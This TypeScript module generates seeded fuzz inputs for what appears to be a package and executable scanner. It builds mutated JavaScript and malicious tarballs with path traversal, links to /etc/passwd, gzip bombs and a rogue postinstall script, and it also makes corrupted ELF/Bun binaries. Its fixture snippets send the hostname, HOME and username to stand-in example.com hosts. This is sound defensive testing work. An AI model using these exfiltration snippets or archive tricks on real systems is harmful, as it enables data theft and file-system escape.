// Inputs for the fuzz harness (issue 15), all from a fixed seed: mutated JavaScript (the project's own fixtures and
// a few real files), hand-made hostile shapes, hostile archives and corrupted executables. Nothing here is checked
// in as data; every input is made again from the seed. The bounded run is test/fuzz/fuzz.test.ts, the long run
// bench/fuzz.ts.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { tar, tgz, type RawEntry } from '../acquire/tar-fixtures.js';
import { buildBunGraph, buildElf, bunSection } from '../executables/fixtures.js';

/** A small, fast, seedable generator (mulberry32): the same seed gives the same inputs on every machine. */
export class Rng {
  constructor(private state: number) {}
  next(): number {
    let t = (this.state = (this.state + 0x6d2b79f5) | 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  pick<T>(xs: readonly T[]): T {
    return xs[this.int(xs.length)]!;
  }
}

export interface FuzzFile {
  name: string;
  data: Buffer;
}

const ROOT = fileURLToPath(new URL('../../../', import.meta.url));

/** Code this project wrote as fixtures, spelled its own way (no known tool's code). */
const OWN_SNIPPETS = [
  'const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nlet b = "https://a.example.com";\nif (tz === "Asia/Shanghai") b = "https://m.example.cn";\nfetch(b);\n',
  'const h = require("os").hostname();\nfetch("https://t.example.com/?h=" + h + process.env.HOME);\n',
  'const s = "aHR0cHM6Ly9leGFtcGxlLmNuL2NvbGxlY3Q=";\nmodule.exports = atob(s);\n',
  'function dec(s){return Buffer.from(s,"base64").toString()}\nconst list=[dec("QXNpYS9TaGFuZ2hhaQ=="),dec("QXNpYS9VcnVtcWk=")];\nif(list.includes(Intl.DateTimeFormat().resolvedOptions().timeZone))process.stdout.write("\\u2019");\n',
  'import os from "node:os";\nexport default async function ping(){ await fetch(`https://x.example.org/p?u=${os.userInfo().username}`, {method:"POST"}); }\n',
  'var q=["a","\\u0430"];module.exports=function(x){return q[x.locale==="ru-RU"?1:0]};\n',
  'class T { #k = 1; static { this.v = new Date().getTimezoneOffset(); } get z(){ return this.#k ?? T.v; } }\nexport { T };\n',
];

/** Real files from installed packages, where present (the same files on every checkout of the lockfile). */
const REAL_FILES = ['ms/index.js', 'semver/classes/range.js', 'npm-package-arg/lib/npa.js', 'tar/dist/esm/header.js', 'tldts/dist/cjs/index.js'];

/** The mutation fuzzer's seeds: the project's fixtures (snippets and the probe's fixture tools) and a few real files. */
export function seeds(): FuzzFile[] {
  const out: FuzzFile[] = OWN_SNIPPETS.map((s, i) => ({ name: `own-${i}.js`, data: Buffer.from(s) }));
  for (const tool of ['honest-tool', 'egress-tool', 'zw-header-tool', 'hang-tool']) {
    const p = join(ROOT, 'test', 'probe', 'fixtures', tool, 'cli.mjs');
    if (existsSync(p)) out.push({ name: `${tool}.mjs`, data: readFileSync(p) });
  }
  for (const rel of REAL_FILES) {
    const p = join(ROOT, 'node_modules', rel);
    if (existsSync(p)) out.push({ name: rel.replace(/\//g, '_'), data: readFileSync(p) });
  }
  return out;
}

const TOKENS = ['{', '}', '(', ')', '[', ']', '"', "'", '`', '${', '/*', '*/', '//', '\\', '\u2028', '\u2029', '\uFEFF', '\u200B', '/', '=>', '...', '?.', '#', '@', ';', ',', '\n', '\r', '\0', '<!--', '-->', 'await ', 'yield ', 'new ', 'import(', 'eval(', 'with(x)', 'Function(', '0x', '1e999', '\\u{10FFFF}', '\\x', '/(?<a>.)\\k<a>/v'];
const EXTENSIONS = ['.js', '.js', '.js', '.mjs', '.cjs', '.ts', '.jsx'];

/** One mutated file: 1 to 6 edits of a seed (byte flips, token insertions, deletions, duplications, truncation, splices). */
export function mutateJs(rng: Rng, all: readonly FuzzFile[], index: number): FuzzFile {
  let b = Buffer.from(rng.pick(all).data);
  const edits = 1 + rng.int(6);
  for (let e = 0; e < edits; e++) {
    const at = rng.int(b.length + 1);
    switch (rng.int(8)) {
      case 0:
        if (b.length) b[rng.int(b.length)] = rng.int(256);
        break;
      case 1:
        b = Buffer.concat([b.subarray(0, at), Buffer.from(rng.pick(TOKENS)), b.subarray(at)]);
        break;
      case 2:
        b = Buffer.concat([b.subarray(0, at), b.subarray(Math.min(b.length, at + 1 + rng.int(64)))]);
        break;
      case 3: {
        const len = rng.int(Math.min(256, b.length - at) + 1);
        b = Buffer.concat([b.subarray(0, at + len), b.subarray(at, at + len), b.subarray(at + len)]);
        break;
      }
      case 4:
        b = b.subarray(0, at);
        break;
      case 5: {
        const other = rng.pick(all).data;
        const from = rng.int(other.length);
        b = Buffer.concat([b.subarray(0, at), other.subarray(from, from + rng.int(2048)), b.subarray(at)]);
        break;
      }
      case 6:
        b = Buffer.concat([b.subarray(0, at), Buffer.from([0xc3, 0x28, 0xff, 0xed, 0xa0, 0x80].slice(0, 1 + rng.int(6))), b.subarray(at)]);
        break;
      default: {
        const open = rng.pick(['(', '[', '{a:', 'f(', '!', '-', 'a.b', '`${']);
        const n = 50 + rng.int(3000);
        b = Buffer.concat([b.subarray(0, at), Buffer.from(open.repeat(n)), b.subarray(at)]);
      }
    }
  }
  return { name: `m${String(index).padStart(4, '0')}${rng.pick(EXTENSIONS)}`, data: b };
}

/** Hand-made hostile shapes at `kb` kilobytes each: long lists, deep chains, big literals, many small things. */
export function shapes(kb: number): FuzzFile[] {
  const size = kb * 1000;
  const rep = (f: (i: number) => string): string => {
    const p: string[] = [];
    let len = 0;
    for (let i = 0; len < size; i++) {
      const s = f(i);
      p.push(s);
      len += s.length;
    }
    return p.join('');
  };
  const list: [string, string][] = [
    ['strings', `var x = [${rep((i) => `"k${i.toString(36)}",`)}];`],
    ['base64', `var x = [${rep((i) => `"${Buffer.from('v' + i * 7919).toString('base64')}",`)}];`],
    ['names', `var x = [${rep((i) => `q_${i.toString(36)},`)}];`],
    ['numbers', `var x = [${rep((i) => `${(i * 7919) % 100003},`)}];`],
    ['objects', `var o = {${rep((i) => `k${i}:{a:${i},b:"x${i}"},`)}};`],
    ['concat', `var s = ${rep((i) => `"p${i}"+`)}"";`],
    ['template', `var t = \`${rep((i) => `text ${i} \${v${i % 10}} `)}\`;`],
    ['big-string', `var s = "${'lorem ipsum '.repeat(size / 12)}";`],
    ['escapes', `var e = "${rep((i) => `\\x${(i % 256).toString(16).padStart(2, '0')}`)}";`],
    ['char-codes', `var s = String.fromCharCode(${rep((i) => `${(i * 31) % 128},`)}0);`],
    ['functions', rep((i) => `function f${i}(a){return a+${i}}\n`)],
    ['closures', rep((i) => `(function(){var q=${i};return function(){return q}})();\n`)],
    ['constructors', rep((i) => `new Function("return ${i}");\n`)],
    ['region-ifs', `var tz=Intl.DateTimeFormat().resolvedOptions().timeZone;\n${rep((i) => `if(tz==="Z/${i}")g(${i});\n`)}`],
    ['urls', rep((i) => `fetch("https://h${i}.example.com/p");\n`)],
    ['switch', `switch(x){${rep((i) => `case "c${i}":y=${i};break;`)}}`],
    ['members', rep((i) => `a.b${i % 100}.c${i}=process.env.V${i};\n`)],
    ['sequence', `(${rep((i) => `a${i},`)}0);`],
    ['conditional', `var c=${rep((i) => `x===${i}?"r${i}":`)}"z";`],
    ['decoder', `function dec(s){var a=[];while(true)a.push(new Array(1e6).fill(s));return a.join("")}\n${rep((i) => `var v${i}=dec("${Buffer.from('opaque' + i).toString('base64')}");\n`)}`],
  ];
  return list.map(([name, text]) => ({ name: `shape-${name}.js`, data: Buffer.from(text) }));
}

const PKG = (name: string, extra: object = {}): string => JSON.stringify({ name, version: '1.0.0', ...extra });
const GOOD_JS = OWN_SNIPPETS[0]!;

/** One hostile archive: the kinds the issue's fuzzing tried (traversal, links, devices, bombs), each with random details. */
export function hostileArchive(rng: Rng, index: number, small = false): FuzzFile {
  const kind = index % 12;
  const base: RawEntry[] = [{ name: 'package/package.json', content: PKG(`a${index}`) }, { name: 'package/index.js', content: GOOD_JS }];
  const evil = `evil-${rng.int(1e6)}.js`;
  let data: Buffer;
  switch (kind) {
    case 0:
      data = tgz([...base, { name: `${'../'.repeat(1 + rng.int(8))}${evil}`, content: 'escaped();' }]);
      break;
    case 1:
      data = tgz([...base, { name: `/tmp/${evil}`, content: 'escaped();' }]);
      break;
    case 2:
      data = tgz([...base, { name: 'package/link', type: '2', linkname: rng.pick(['/', '/etc', '..', '../..', '/proc/self']) }, { name: 'package/link/x.js', content: 'escaped();' }]);
      break;
    case 3:
      data = tgz([...base, { name: 'package/hard.js', type: '1', linkname: rng.pick(['/etc/passwd', '../../x', 'package/index.js']) }]);
      break;
    case 4:
      data = tgz([...base, { name: 'package/dev.js', type: rng.pick(['3', '4', '6']) }]);
      break;
    case 5: {
      // A gzip bomb: megabytes of zeros in one entry, compressed about a thousand to one.
      const size = (small ? 2 + rng.int(6) : 8 + rng.int(56)) * 1024 * 1024;
      data = gzipSync(Buffer.concat([tar([...base, { name: 'package/bomb.js', content: Buffer.alloc(size, rng.pick([0x20, 0x30, 0x0a])) }])]), { level: 9 });
      break;
    }
    case 6: {
      // Many entries.
      const n = small ? 1000 + rng.int(2000) : 5000 + rng.int(20000);
      data = tgz([...base, ...Array.from({ length: n }, (_, i) => ({ name: `package/d${i % 50}/f${i}.dat`, content: `x${i}=1;` }))]);
      break;
    }
    case 7: {
      const whole = tgz([...base, { name: 'package/lib.js', content: GOOD_JS.repeat(50) }]);
      data = whole.subarray(0, 20 + rng.int(whole.length - 20));
      break;
    }
    case 8:
      data = tgz([...base, { name: 'package/lie.js', content: 'short', declaredSize: 1 + rng.int(1 << 20) }]);
      break;
    case 9:
      data = tgz([
        { name: 'package/package.json', content: PKG('m', { main: rng.pick(['../../../etc/passwd', '/etc/passwd', 'x\0y', '']), bin: { a: '../../bin/sh' }, scripts: { postinstall: 'node ../../x.js' }, exports: { '.': { '..': '../y' } } }) },
        { name: 'package/index.js', content: GOOD_JS },
      ]);
      break;
    case 10: {
      // A valid archive with random bytes changed inside the tar, gzipped again.
      const raw = tar([...base, { name: 'package/lib/a.js', content: GOOD_JS }]);
      for (let k = 0, n = 1 + rng.int(16); k < n; k++) raw[rng.int(raw.length)] = rng.int(256);
      data = gzipSync(raw);
      break;
    }
    default:
      data = tgz([...base, { name: `package/${'deep/'.repeat(15)}x.js`, content: 'x=1' }, { name: 'package/index.js', content: 'dup();' }, { name: 'package/\u00ff\u202e.js', content: 'y=2' }]);
  }
  return { name: `archive-${String(index).padStart(3, '0')}-k${kind}.tgz`, data };
}

const BUN_APP = '// @bun\nconst tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nlet u = "https://a.example.org/";\nif (tz === "Europe/Kyiv") u = "https://b.example.org/";\nfetch(u + tz);\n';

/** A small Bun-style executable with `.text`, `.rodata` and `.bun`, and the offset of the `.bun` section header. */
function bunApp(): { elf: Buffer; bunHeader: number; bunOffset: number } {
  const rodata = Buffer.from('runtime strings\0\n---- Bun! ----\n\0', 'latin1');
  const elf = buildElf([{ name: '.text', data: Buffer.alloc(64) }, { name: '.rodata', data: rodata }, { name: '.bun', data: bunSection(buildBunGraph([{ name: '/$bunfs/root/app', contents: BUN_APP }])) }]);
  const shoff = Number(elf.readBigUInt64LE(40));
  const bunHeader = shoff + 3 * 64;
  return { elf, bunHeader, bunOffset: Number(elf.readBigUInt64LE(bunHeader + 24)) };
}

/** One corrupted executable: the issue's three header patches and random damage to headers, section table and graph. */
export function corruptExecutable(rng: Rng, index: number): FuzzFile {
  const { elf, bunHeader, bunOffset } = bunApp();
  let b: Buffer = Buffer.from(elf);
  const patches = [
    () => b.writeUInt16LE(0, 60), // e_shnum = 0
    () => b.writeUInt16LE(0xfffe, 62), // e_shstrndx = 0xfffe
    () => b.writeBigUInt64LE(0n, bunHeader + 32), // .bun size 0
    () => b.writeBigUInt64LE(BigInt(rng.pick([0xffffffff, 0x7fffffffffff, 1 << 30])), bunHeader + 32), // .bun size huge
    () => b.writeBigUInt64LE(BigInt(rng.pick([0xffffffff, b.length + 1, 0])), bunHeader + 24), // .bun offset wrong
    () => b.writeBigUInt64LE(BigInt(rng.pick([0xffffffff, b.length - 8])), 40), // e_shoff past the end
    () => b.writeUInt16LE(rng.int(0x10000), 58), // e_shentsize
    () => (b[rng.int(64)] = rng.int(256)), // a header byte
    () => (b[bunOffset + rng.int(Math.max(1, b.length - bunOffset))] = rng.int(256)), // a byte of the graph
    () => (b = b.subarray(0, rng.int(b.length))), // truncated
    () => (b = Buffer.concat([b, bunSection(buildBunGraph([{ name: '/$bunfs/root/more', contents: 'x=1;' }]))])), // a second graph after the end
  ];
  // The first three are the issue's hiding patches, alone; the rest are random combinations.
  const apply = (patch: () => unknown): void => {
    try {
      patch();
    } catch {
      // A patch past the end of an already truncated file: that file is damaged enough.
    }
  };
  if (index < 3) apply(patches[index]!);
  else for (let k = 0, n = 1 + rng.int(3); k < n; k++) apply(rng.pick(patches));
  return { name: `exe-${String(index).padStart(3, '0')}`, data: b };
}
